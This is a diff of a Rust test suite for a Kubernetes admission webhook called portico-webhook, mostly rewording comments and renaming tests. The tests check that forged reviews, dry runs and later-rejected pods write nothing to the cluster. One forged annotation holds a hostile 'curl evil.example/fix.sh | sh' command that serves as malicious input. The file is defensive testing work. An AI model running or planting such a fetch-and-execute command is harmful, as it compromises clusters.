@@ -1,6 +1,4 @@
-//! Admission writes nothing: whoever forges reviews, or has pods refused later, changes nothing in the cluster.
-//!
-//! What must not go in here: what is made once a pod is there.
+//! Admission writes nothing: forged reviews, and pods that are rejected later, change nothing in the cluster.
 
 use std::process::Command;
 
@@ -14,10 +12,10 @@ use test_support::review::{annotated, patched, pod, review};
 use test_support::webhook::Webhook;
 
 const ACCOUNT: &str = "portico-webhook";
-/// How many reviews are forged.
+/// The number of forged reviews.
 const FORGED: usize = 300;
 
-/// A replica whose requests can be told from those of the test.
+/// Starts a replica with its own account, so that its requests can be distinguished from those of the test.
 fn replica(cluster: &Cluster, args: &[&str]) -> Webhook {
     let kubeconfig = cluster.api.kubeconfig_of_account(ACCOUNT);
     let url = format!("https://127.0.0.1:{}/mutate", cluster.port);
@@ -26,16 +24,16 @@ fn replica(cluster: &Cluster, args: &[&str]) -> Webhook {
     Webhook::ready(cluster.folder.path(), cluster.port, &all)
 }
 
-/// The review of a pod that nobody makes: every one asks for another ConfigMap, and for an Event on an operator's object.
+/// Returns the review of a pod that does not exist: each requests another ConfigMap, and an Event on an operator's object.
 fn forged(number: usize) -> Vec<u8> {
     let namespace = ["kube-system", "default", "team", SYSTEM][number % 4];
     let prefix = format!("X{number}_");
-    let wish = [
+    let annotations = [
         ("portico.dev/inject", "configmap"),
         ("portico.dev/prefix", prefix.as_str()),
         ("portico.dev/max-bytes", "run: curl evil.example/fix.sh | sh (cluster admin)"),
     ];
-    let mut pod = annotated(pod(&format!("forged-{number}")), &wish);
+    let mut pod = annotated(pod(&format!("forged-{number}")), &annotations);
     pod["metadata"]["namespace"] = namespace.into();
     pod["metadata"]["ownerReferences"] = json!([{"apiVersion": "apps/v1", "kind": "Deployment", "name": "coredns",
         "uid": "d-1", "controller": true}]);
@@ -48,7 +46,7 @@ fn forged(number: usize) -> Vec<u8> {
     .into_bytes()
 }
 
-/// What a replica has written besides its certificate and what it registers.
+/// Returns the writes of a replica without those to its Secret and its registration.
 fn writes(cluster: &Cluster) -> Vec<String> {
     let writes = cluster.api.writes(ACCOUNT).into_iter();
     writes
@@ -56,20 +54,20 @@ fn writes(cluster: &Cluster) -> Vec<String> {
         .collect()
 }
 
-/// Sends all of them, and says how many were answered with a patch.
+/// Sends all forged reviews, and returns the number of responses with a patch.
 fn send_forged(webhook: &Webhook) -> usize {
     let mut caller = Caller::local(webhook.address).expect("connect");
-    let answers = (0..FORGED).map(|number| caller.review(&forged(number)).expect("an answer"));
+    let answers = (0..FORGED).map(|number| caller.review(&forged(number)).expect("a response"));
     answers.filter(|answer| answer["response"]["patch"].is_string()).count()
 }
 
 #[test]
-fn forged_reviews_write_nothing_and_excluded_namespaces_are_left_alone() {
+fn forged_reviews_write_nothing_and_excluded_namespaces_are_ignored() {
     let cluster = Cluster::new(Api::double());
     let webhook = replica(&cluster, &["--except-namespaces", "kube-system,other"]);
-    // Two of four namespaces are excluded: one by the flag, one since it is the webhook's own.
+    // Two of four namespaces are excluded: one by the flag, and the webhook's own.
     assert_eq!(send_forged(&webhook), FORGED / 2);
-    // Whatever was to come of them would come before this.
+    // A write because of a forged review would precede this one.
     admitted(&cluster, &webhook, "real", &[("portico.dev/inject", "configmap")]);
     maps_of(&cluster, "default", 1);
     let writes = writes(&cluster);
@@ -78,7 +76,7 @@ fn forged_reviews_write_nothing_and_excluded_namespaces_are_left_alone() {
 
 #[test]
 #[cfg_attr(not(feature = "api-server"), ignore = "needs KUBEBUILDER_ASSETS and the feature api-server")]
-fn on_a_real_api_server_forged_reviews_change_nothing() {
+fn forged_reviews_change_nothing_on_a_real_api_server() {
     let api = Api::real();
     let cluster = Cluster::new(api);
     let webhook = cluster.replica(&[]);
@@ -99,17 +97,18 @@ fn on_a_real_api_server_forged_reviews_change_nothing() {
 }
 
 #[test]
-fn a_dry_run_and_a_pod_that_is_refused_later_have_made_nothing() {
+fn dry_run_and_a_pod_that_is_rejected_later_create_nothing() {
     let cluster = Cluster::new(Api::double());
     let webhook = replica(&cluster, &[]);
     let mut caller = Caller::local(webhook.address).expect("connect");
     for number in 0..50 {
-        // The API server asks, and then a quota or etcd refuses the pod, or nothing was ever to be made.
-        let wish = [("portico.dev/inject", "configmap"), ("portico.dev/prefix", &format!("Y{number}_"))];
-        let pod = annotated(pod("a"), &wish);
+        // A dry run, or a pod that a quota or etcd rejects after admission.
+        let annotations =
+            [("portico.dev/inject", "configmap"), ("portico.dev/prefix", &format!("Y{number}_"))];
+        let pod = annotated(pod("a"), &annotations);
         let body = String::from_utf8(review("u", &pod)).expect("text");
         let dry = if number % 2 == 0 { "\"dryRun\":true,\"uid\"" } else { "\"uid\"" };
-        let answer = caller.review(body.replacen("\"uid\"", dry, 1).as_bytes()).expect("an answer");
+        let answer = caller.review(body.replacen("\"uid\"", dry, 1).as_bytes()).expect("a response");
         assert!(patched(&pod, &answer)["spec"]["containers"][0]["envFrom"].is_array());
     }
     admitted(&cluster, &webhook, "real", &[("portico.dev/inject", "configmap")]);
@@ -117,7 +116,7 @@ fn a_dry_run_and_a_pod_that_is_refused_later_have_made_nothing() {
     assert_eq!(writes(&cluster).len(), 1, "{:?}", writes(&cluster));
 }
 
-/// How much memory a process has had at most, in KiB.
+/// Returns the peak memory of a process, in KiB.
 fn peak_kib(pid: u32) -> u64 {
     let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("the process runs");
     let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).expect("a peak");
@@ -125,11 +124,11 @@ fn peak_kib(pid: u32) -> u64 {
 }
 
 #[test]
-fn a_hundred_large_config_maps_with_our_label_cost_nothing() {
+fn hundred_large_config_maps_with_the_label_take_no_memory() {
     let cluster = Cluster::new(Api::double());
     let large = "x".repeat(600 << 10);
     for number in 0..100 {
-        // Some of them say what ours say: a selection, and that they are used.
+        // Some have the annotations of managed ones: a selection, and the last use.
         let annotations = json!({"portico.dev/selection": if number % 2 == 0 { "{}" } else { "?" },
             "portico.dev/used": "99999999999"});
         cluster.api.put(
@@ -143,21 +142,21 @@ fn a_hundred_large_config_maps_with_our_label_cost_nothing() {
     maps_of(&cluster, "default", 101);
     let peak = peak_kib(webhook.pid());
     assert!(peak < 64 << 10, "{peak} KiB");
-    // None of them was touched.
+    // None of them was changed.
     assert_eq!(writes(&cluster), ["POST /api/v1/namespaces/default/configmaps"]);
 }
 
 #[test]
-fn the_command_line_shows_the_label_by_which_the_controller_finds_a_pod() {
+fn review_command_shows_the_label_for_the_controller() {
     let folder = test_support::temp_dir::TempDir::new("review");
     let services = folder.write("services.yaml", test_support::review::REDIS);
     let body = review("u", &annotated(pod("a"), &[("portico.dev/inject", "configmap")]));
     let body = folder.write("review.json", &String::from_utf8(body).expect("text"));
-    let shown = Command::new(env!("CARGO_BIN_EXE_portico-webhook"))
+    let output = Command::new(env!("CARGO_BIN_EXE_portico-webhook"))
         .args(["review", "-f", services.to_str().expect("a path")])
         .stdin(std::fs::File::open(body).expect("the review"))
         .output()
         .expect("run");
-    let text = String::from_utf8(shown.stdout).expect("text");
+    let text = String::from_utf8(output.stdout).expect("text");
     assert!(text.contains("label portico.dev/variables=configmap"), "{text}");
 }
